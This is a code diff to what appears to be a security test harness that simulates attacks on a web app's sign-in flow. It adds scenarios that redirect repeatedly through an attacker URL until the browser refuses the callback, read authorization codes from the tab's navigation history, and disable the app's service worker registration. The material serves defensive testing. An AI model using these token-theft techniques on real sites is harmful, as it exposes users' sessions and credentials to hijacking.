@@ -1,4 +1,4 @@
-import { attack, type Payload } from "../attack.js";
+import { type Attack, attack, type Payload } from "../attack.js";
 import { withoutRegister } from "./hooks.js";
 
 /** The silent flow in a frame, and all ways in which a page may learn the frame's final URL. */
@@ -122,6 +122,65 @@ export const silentFlowWithFragment = attack({
     await stage.openSignedIn();
     await stage.injectAndLeave();
     await stage.browser.waitFor("the app", async () => (await stage.state()) !== null);
+  },
+});
+
+/** The silent flow after fewer and fewer redirects of the attacker's own: browsers refuse the 20th redirect, or the 21st. */
+const refusedRedirect: Pick<Attack, "threat" | "target" | "wantsCode" | "hook" | "payload"> = {
+  threat: "acquisition of new tokens",
+  target: "the app's origin",
+  wantsCode: true,
+  hook(it) {
+    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
+    const look = () => it.steal((navigation?.entries() ?? []).map(({ url }) => url));
+    look();
+    addEventListener("pageshow", look);
+  },
+  async payload(it) {
+    const redirects = Number(sessionStorage.getItem("redirects") ?? 20);
+    sessionStorage.setItem("redirects", String(redirects - 1));
+    location.assign(
+      `${it.attackerUrl}/redirects/${redirects}?to=${encodeURIComponent(it.authorizationUrl())}`,
+    );
+    // With 204, the page stays.
+    await it.pause(2_000);
+  },
+};
+
+export const refusedRedirectOfTheWorker = attack({
+  ...refusedRedirect,
+  name: "lets the browser refuse the callback's redirect as one too many, and reads the tab's history",
+  alone: true,
+  async play(stage) {
+    await stage.openSignedIn();
+    for (let tries = 0; tries < 4; tries++) {
+      await stage.injectAndLeaveOrStay();
+      await stage.open();
+    }
+  },
+});
+
+export const refusedRedirectOfTheHost = attack({
+  ...refusedRedirect,
+  name: "unregisters the worker, lets the browser refuse the callback's redirect as one too many, and reads the tab's history",
+  leavesWorkers: true,
+  hook(it) {
+    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
+    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
+    const look = () => it.steal((navigation?.entries() ?? []).map(({ url }) => url));
+    look();
+    addEventListener("pageshow", look);
+  },
+  async play(stage) {
+    stage.hook([]);
+    await stage.openSignedIn();
+    stage.hook([refusedRedirectOfTheHost]);
+    await stage.unregisterWorkers();
+    for (let tries = 0; tries < 4; tries++) {
+      await stage.openUnconnected();
+      await stage.injectAndLeaveOrStay();
+    }
+    await stage.openUnconnected();
   },
 });
 
@@ -307,13 +366,15 @@ export const topPageUnregistered = attack({
     it.steal(location.href, document.referrer, performance.getEntries());
     it.steal((navigation?.entries() ?? []).map(({ url }) => url));
   },
-  payload(it) {
+  async payload(it) {
     location.assign(it.authorizationUrl());
+    // With 204, the page stays.
+    await it.pause(1_000);
   },
   async play(stage) {
     await stage.unregisterWorkers();
     await stage.openUnconnected();
-    await stage.injectAndLeave();
+    await stage.injectAndLeaveOrStay();
     // The user returns to the app, where the script runs again.
     await stage.openUnconnected();
     await stage.browser.evaluate(() => history.back());
@@ -353,7 +414,7 @@ export const refusedCallback = attack({
     stage.hook([refusedCallback]);
     await stage.unregisterWorkers();
     await stage.openUnconnected();
-    await stage.injectAndLeaveFor("/auth/");
+    await stage.injectAndLeaveOrStay();
     // The user returns to the app, where the script runs again.
     await stage.openUnconnected();
     await browser.evaluate(() => history.back());
